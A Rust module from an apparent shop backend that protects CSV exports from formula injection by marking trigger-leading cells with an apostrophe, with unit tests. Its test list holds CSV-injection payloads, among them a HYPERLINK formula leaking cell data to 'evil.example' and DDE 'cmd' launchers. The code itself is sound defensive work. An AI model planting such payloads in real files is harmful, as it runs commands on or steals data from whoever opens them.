//! The CSV files the shop writes for spreadsheet programs (orders, products, sales), and the
//! rule that keeps them from running anything when opened. Shoppers type the delivery and
//! tax-invoice names that land in `orders.csv`, and a spreadsheet reads a cell starting with
//! `=`, `+`, `-` or `@` (or TAB or CR, which some programs skip first) as a formula:
//! `=HYPERLINK(…)` or `+cmd|' /C calc'!A0` would act on the staff member's computer. Such a
//! cell is written with a leading apostrophe, which spreadsheets read as "this is text" (the
//! OWASP advice on CSV injection).
//!
//! Every export writes through [`CsvSheet`], so no export can forget the rule; the catalogue
//! import reads cells back through [`restore`], so an exported file imports as the products it
//! came from. The two are exact inverses: a cell that already starts with apostrophes before a
//! trigger gets one more, so `restore` only ever takes off what `neutralise` put on. See
//! `docs/EXPORTS.md`.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The mark that tells a spreadsheet the cell is text.
const TEXT_MARK: char = '\'';

/// The cell as the shop writes it: with a leading apostrophe when a spreadsheet would read it
/// as a formula. A plain number (`-5`, `-12.50`) is left alone: it is a value, not a formula,
/// and numeric columns stay numbers.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_mark(cell) && !is_plain_number(cell) {
        Cow::Owned(format!("{TEXT_MARK}{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The text of a cell [`neutralise`] wrote: the one apostrophe it added taken off. A cell that
/// starts with an apostrophe not followed by a trigger was never marked and is kept whole.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(TEXT_MARK) {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

/// Whether the cell, past any apostrophes it already starts with, starts with a trigger.
/// Counting the apostrophes in is what makes [`restore`] exact: `'=x` typed by someone is
/// written `''=x` and read back as `'=x`.
fn needs_mark(cell: &str) -> bool {
    cell.trim_start_matches(TEXT_MARK).starts_with(TRIGGERS)
}

/// `-5`, `-12.50`: a minus sign, digits, and at most one decimal point between digits.
fn is_plain_number(cell: &str) -> bool {
    let Some(digits) = cell.strip_prefix('-') else {
        return false;
    };
    let mut parts = digits.splitn(2, '.');
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    parts.next().is_some_and(all_digits) && parts.next().is_none_or(all_digits)
}

/// A CSV file being written: every cell of every row goes through [`neutralise`].
pub struct CsvSheet {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for CsvSheet {
    fn default() -> Self {
        CsvSheet::new()
    }
}

impl CsvSheet {
    pub fn new() -> CsvSheet {
        CsvSheet {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one row (the header row too: the rule costs nothing there).
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<S> = cells.into_iter().collect();
        self.writer.write_record(
            cells
                .iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    /// The file as text (without a byte-order mark: the caller adds one where the file goes
    /// to a spreadsheet program).
    pub fn into_text(self) -> Result<String, csv::Error> {
        let bytes = self
            .writer
            .into_inner()
            .map_err(|err| csv::Error::from(err.into_error()))?;
        // Every cell was a `str`, so the bytes are UTF-8.
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Payloads from the OWASP page and the attack report, with each trigger first.
    const ATTACKS: &[&str] = &[
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
    ];

    #[test]
    fn every_trigger_gets_the_text_mark() {
        for attack in ATTACKS {
            let written = neutralise(attack);
            assert_eq!(written, format!("'{attack}"), "{attack:?}");
        }
    }

    #[test]
    fn plain_text_and_plain_numbers_are_left_alone() {
        for cell in [
            "Somchai",
            "โซฟา",
            "",
            "a=b",
            "5",
            "-5",
            "-12.50",
            "0",
            "2026-11-27",
            " =x",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
        for not_a_number in ["-", "-.5", "-5.", "-5.5.5", "-1e3", "--5", "-5 "] {
            assert_eq!(
                neutralise(not_a_number),
                format!("'{not_a_number}"),
                "{not_a_number:?}"
            );
        }
    }

    #[test]
    fn restore_takes_off_exactly_what_neutralise_put_on() {
        let mut cells: Vec<String> = ATTACKS.iter().map(|s| s.to_string()).collect();
        for typed in [
            "'", "''", "'=x", "''=x", "'-5", "-5", "'plain", "it's", "'", "'@", "plain", "",
        ] {
            cells.push(typed.to_string());
        }
        for cell in &cells {
            let written = neutralise(cell);
            assert_eq!(restore(&written), cell, "{cell:?} written as {written:?}");
            // What is written never starts with a trigger unless it is a plain number.
            assert!(
                !written.starts_with(TRIGGERS) || is_plain_number(&written),
                "{written:?}"
            );
        }
    }

    #[test]
    fn a_sheet_marks_every_cell_of_every_row() {
        let mut sheet = CsvSheet::new();
        sheet.row(["name", "total"]).unwrap();
        sheet.row(["=1+1", "-5"]).unwrap();
        sheet
            .row([String::from("@SUM(1)"), String::from("12.00")])
            .unwrap();
        let text = sheet.into_text().unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        assert_eq!(rows, [["'=1+1", "-5"], ["'@SUM(1)", "12.00"]]);
    }
}
